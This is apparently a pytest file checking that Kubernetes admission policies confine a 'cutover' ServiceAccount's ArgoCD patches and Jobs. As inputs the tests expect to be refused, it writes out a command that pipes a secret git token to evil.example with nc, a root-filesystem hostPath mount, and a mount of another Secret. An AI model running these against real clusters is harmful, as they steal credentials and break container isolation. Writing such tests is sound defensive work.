"""Scenario h: what RBAC cannot limit, enforced by the real apiserver's ValidatingAdmissionPolicies as shipped
(manifests/base/admission.yaml): the ServiceAccount's `patch` on an Application asks for a refresh and changes
nothing else; a pod, Job or CronJob that runs as the ServiceAccount runs cutover's image with its own entrypoint
and mounts only cutover's volumes, whoever writes it; the Leases it creates are its own."""

from __future__ import annotations

import copy
import json
from typing import Any

import pytest
from ruamel.yaml import YAML

from tier.cluster import ROOT, Tier

REFRESH = {"metadata": {"annotations": {"argocd.argoproj.io/refresh": "normal"}}}


def patch_application(tier: Tier, patch: dict[str, Any]) -> Any:
    return tier.kubectl("-n", "argocd", "patch", "application", "llm-serving", "--type", "merge",
                        "-p", json.dumps(patch), as_sa=True, check=False)


@pytest.fixture(scope="module", autouse=True)
def enforced(tier: Tier) -> None:
    """The apiserver loads a new ValidatingAdmissionPolicy and its binding asynchronously: right after the install,
    a patch they refuse may still pass (a loaded machine saw `spec.project: default` patched through). Wait until a
    server-side dry run of one is refused, which changes nothing."""
    def refused() -> bool:
        done = tier.kubectl("-n", "argocd", "patch", "application", "llm-serving", "--type", "merge",
                            "--dry-run=server", "-p", json.dumps({"spec": {"project": "default"}}), as_sa=True,
                            check=False)
        return done.returncode != 0 and "cutover-application-refresh-only" in done.stderr

    tier.wait("the admission policies enforced", refused, 60)


def test_the_service_account_may_refresh_an_application(tier: Tier) -> None:
    done = patch_application(tier, REFRESH)
    assert done.returncode == 0, done.stderr


@pytest.mark.parametrize(("patch", "words"), [
    ({"spec": {"project": "default"}}, "may not change an Application's spec"),
    ({"spec": {"source": {"repoURL": "https://evil.example/x.git"}}}, "may not change an Application's spec"),
    ({"spec": {"destination": {"namespace": "kube-system"}}}, "may not change an Application's spec"),
    ({"operation": {"sync": {"revision": "HEAD"}}}, "may not start an operation"),
    ({"metadata": {"labels": {"team": "someone-else"}}}, "labels or finalizers"),
    ({"metadata": {"annotations": {"argocd.argoproj.io/sync-options": "Prune=false"}}}, "no annotation"),
    ({"metadata": {"annotations": {**REFRESH["metadata"]["annotations"], "notes": "x"}}}, "no annotation"),
])
def test_the_service_account_may_change_nothing_else_on_an_application(tier: Tier, patch: dict[str, Any],
                                                                        words: str) -> None:
    before = tier.kubectl("-n", "argocd", "get", "application", "llm-serving", "-o", "json").stdout
    done = patch_application(tier, patch)
    assert done.returncode != 0 and "cutover-application-refresh-only" in done.stderr and words in done.stderr, \
        done.stderr
    after = tier.kubectl("-n", "argocd", "get", "application", "llm-serving", "-o", "json").stdout
    assert json.loads(after)["spec"] == json.loads(before)["spec"]


def shipped_job() -> dict[str, Any]:
    """The cutover-run CronJob's Job as shipped (jobs/cutover-run.yaml), with the tier's image."""
    cronjob = YAML(typ="safe").load((ROOT / "jobs" / "cutover-run.yaml").read_text())
    job = {"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "borrowed", "namespace": "cutover"},
           "spec": copy.deepcopy(cronjob["spec"]["jobTemplate"]["spec"])}
    job["spec"]["template"]["spec"]["containers"][0]["image"] = "cutover:e2e"
    return job


def create(tier: Tier, obj: dict[str, Any], name: str) -> Any:
    """Created as a workload writer (or ArgoCD syncing one's commit) creates it: not as the ServiceAccount, and
    with `--dry-run=server`, so admission answers and nothing stays."""
    path = tier.dir / f"{name}.json"
    path.write_text(json.dumps(obj))
    return tier.kubectl("create", "--dry-run=server", "-f", str(path), check=False)


def container(job: dict[str, Any]) -> dict[str, Any]:
    found: dict[str, Any] = job["spec"]["template"]["spec"]["containers"][0]
    return found


def test_the_shipped_job_passes(tier: Tier) -> None:
    done = create(tier, shipped_job(), "shipped")
    assert done.returncode == 0, done.stderr


def _image(job: dict[str, Any], image: str) -> None:
    container(job)["image"] = image


def _command(job: dict[str, Any]) -> None:
    container(job)["command"] = ["/bin/sh", "-c", "cat /var/run/secrets/cutover/git/token | nc evil.example 80"]


def _host_path(job: dict[str, Any]) -> None:
    job["spec"]["template"]["spec"]["volumes"].append({"name": "root", "hostPath": {"path": "/"}})


def _other_secret(job: dict[str, Any]) -> None:
    job["spec"]["template"]["spec"]["volumes"].append({"name": "x", "secret": {"secretName": "argocd-secret"}})


def _init_container(job: dict[str, Any]) -> None:
    job["spec"]["template"]["spec"]["initContainers"] = [{"name": "x", "image": "busybox", "args": ["true"]}]


def _host_network(job: dict[str, Any]) -> None:
    job["spec"]["template"]["spec"]["hostNetwork"] = True


@pytest.mark.parametrize(("why", "change", "words"), [
    ("another image", lambda job: _image(job, "busybox:1.36"), "runs the image cutover"),
    ("an image of that name from another registry", lambda job: _image(job, "evil.example/cutover:e2e"),
     "runs the image cutover"),
    ("a command of its own", _command, "the image's own entrypoint"),
    ("an init container", _init_container, "the image's own entrypoint"),
    ("the host's filesystem", _host_path, "mounts only the plan"),
    ("someone else's Secret", _other_secret, "mounts only the plan"),
    ("the host's network", _host_network, "shares no host namespace"),
])
def test_a_job_that_borrows_the_service_account_is_refused(tier: Tier, why: str, change: Any, words: str) -> None:
    job = shipped_job()
    change(job)
    done = create(tier, job, "borrowed")
    assert done.returncode != 0 and "cutover-pod-pinned" in done.stderr and words in done.stderr, (why, done.stderr)


def test_a_job_of_another_service_account_is_not_cutovers_business(tier: Tier) -> None:
    job = shipped_job()
    job["spec"]["template"]["spec"]["serviceAccountName"] = "default"
    _image(job, "busybox:1.36")
    _command(job)
    done = create(tier, job, "theirs")
    assert done.returncode == 0, done.stderr


@pytest.mark.parametrize(("name", "allowed"), [("cutover-some-service", True), ("kube-scheduler", False)])
def test_the_service_account_creates_only_its_own_leases(tier: Tier, name: str, allowed: bool) -> None:
    lease = {"apiVersion": "coordination.k8s.io/v1", "kind": "Lease",
             "metadata": {"name": name, "namespace": "llm-serving"}, "spec": {"holderIdentity": "x"}}
    path = tier.dir / f"lease-{name}.json"
    path.write_text(json.dumps(lease))
    done = tier.kubectl("create", "--dry-run=server", "-f", str(path), as_sa=True, check=False)
    assert (done.returncode == 0) is allowed, done.stderr
    if not allowed:
        assert "cutover-lease-names" in done.stderr
